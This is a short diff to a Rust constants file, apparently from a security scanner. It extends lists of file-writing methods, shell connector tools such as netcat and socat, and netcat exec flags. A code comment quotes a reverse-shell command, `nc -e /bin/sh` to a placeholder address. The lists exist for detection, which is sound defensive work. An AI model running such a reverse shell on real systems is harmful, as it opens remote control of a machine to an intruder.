@@ -759,6 +759,8 @@ pub const METHODS_WITH_ARGUMENTS: &[&str] = &[
     "arg",
     "args",
     "concat",
+    "create",
+    "create_new",
     "create_subkey",
     "create_subkey_with_flags",
     "decode",
@@ -771,6 +773,7 @@ pub const METHODS_WITH_ARGUMENTS: &[&str] = &[
     "set_mode",
     "set_raw_value",
     "set_value",
+    "truncate",
     "write",
 ];
 
@@ -1750,7 +1753,7 @@ pub const SHELL_NETWORK_PRIMITIVES: &[&str] = &[
 pub const SHELL_CONNECTORS: &[&str] = &["nc", "ncat", "netcat", "socat", "telnet"];
 
 /// Flags with which netcat runs a program for each connection (`nc -e /bin/sh 192.0.2.1 4444`,
-/// `ncat --sh-exec`).
+/// `ncat --sh-exec`), as written: `-C` and `-E` are other options.
 pub const CONNECTOR_EXEC_FLAGS: &[&str] = &["--exec", "--lua-exec", "--sh-exec", "-c", "-e"];
 
 /// `socat` address types that run a program on the other end of its connection.
